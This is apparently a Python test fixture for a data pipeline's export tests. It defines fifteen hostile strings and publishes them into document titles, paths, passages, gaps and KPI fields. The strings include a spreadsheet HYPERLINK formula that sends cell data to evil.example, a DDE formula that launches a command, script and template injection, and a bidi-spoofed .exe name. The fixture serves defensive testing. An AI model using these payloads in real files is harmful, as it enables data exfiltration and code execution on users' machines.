"""A small published pack for the tests of exports: hostile texts where people's words stand, figures, decisions."""

from __future__ import annotations

import dataclasses
from datetime import date
from pathlib import Path
from typing import Any

from store_records import make_facets, make_label, make_passage, make_tables

from pipeline.records import Gap, Kind, Stance
from pipeline.store.publish import publish_coverage
from pipeline.store.tables import PublishedTable, PublishedTables, read_published

HOSTILE_TEXTS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"look")',
    "=1+1",
    "+44 is where it begins",
    "-2+3 is a sum",
    "@SUM(A1:A9)",
    '=cmd|" /C calc"!A0',
    "\t=1+1 after a tab",
    "  =1+1 after spaces",
    "＝1+1 in wide letters",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }} ${7 * 7} %s {0}",
    "]]> & &amp; <w:p/> \x00\x07\x1b[31m",
    "\u202egnp.exe \u2066turned\u2069",
    "half a character \ud83d and _x0041_ an escape",
    "https://evil.example/path file://c:/x.exe mailto:a",
)
"""Fifteen texts that somebody might put into a document to make a program run them."""


def publish_pack(path: Path, **changes: object) -> Path:
    """Publish the pack of `store_records` with some gaps and evidence that can be quoted."""
    publish_coverage(path, make_tables(**changes))
    return path


def publish_hostile(path: Path) -> Path:
    """Publish a pack in which texts are hostile: quotes, reasons, actions, owners, notes, titles, paths."""
    texts = tuple(text.replace("\ud83d", "") for text in HOSTILE_TEXTS)  # DuckDB holds valid UTF-8 only
    tables = make_tables()
    passages = tuple(
        make_passage(
            f"h-{at}", "plan", f"{text} and the words after it", ordinal=at + 2, evidence_date=date(2026, 1, at + 1)
        )
        for at, text in enumerate(texts)
    )
    gaps = tuple(hostile_gap(tables.gaps[0], at, text) for at, text in enumerate(texts))
    documents = (
        dataclasses.replace(tables.documents[0], title=texts[0], path=f"{texts[1]}.docx"),
        *tables.documents[1:],
    )
    kinds = (Kind.IMPACT, Kind.PERFORMANCE, Kind.VOICE)
    return publish_pack(
        path,
        documents=documents,
        passages=(*tables.passages, *passages),
        labels=(*tables.labels, *(make_label(passage.passage_id, "H1.1") for passage in passages)),
        facets=(
            *tables.facets,
            *(
                make_facets(passage.passage_id, kinds[at % 3], stance=(Stance.STRENGTH, Stance.CONCERN)[at % 2])
                for at, passage in enumerate(passages)
            ),
        ),
        gaps=gaps,
    )


def hostile_gap(gap: Gap, at: int, text: str) -> Gap:
    return dataclasses.replace(
        gap, gap_id=f"g-{at}", reason=text, suggested_action=text, owner=text, note=text, rank=at + 1
    )


def with_figures(published: PublishedTables, *figures: tuple[date, float]) -> PublishedTables:
    """The tables with one KPI and its figures by day."""
    kpi = {"kpi_id": "k", "title": "=Average wait", "unit": "weeks", "statistic": None, "direction": "down"}
    kpi |= {"baseline_value": 75.0, "baseline_date": date(2024, 2, 1)}
    series = [
        {
            **{"kpi_id": "k", "kpi": "=Average wait", "criterion_ids": ["H1.1"], "direction": "down", "value": value},
            **{"unit": "weeks", "statistic": "mean", "period_start": None, "period_end": day, "population": None},
            **{"is_target": False, "is_implausible": False, "citation": "Plan, p. 1", "quote": "=26 weeks"},
        }
        for day, value in figures
    ]
    tables = {**published.tables, "kpis": table("kpis", [kpi]), "kpi_series": table("kpi_series", series)}
    return PublishedTables(tables, published.run)


def table(name: str, records: list[dict[str, Any]]) -> PublishedTable:
    """A table of records that share their keys."""
    columns = tuple(records[0]) if records else ()
    return PublishedTable(name, columns, tuple(tuple(record.values()) for record in records))


def published_of(path: Path) -> PublishedTables:
    return read_published(path)
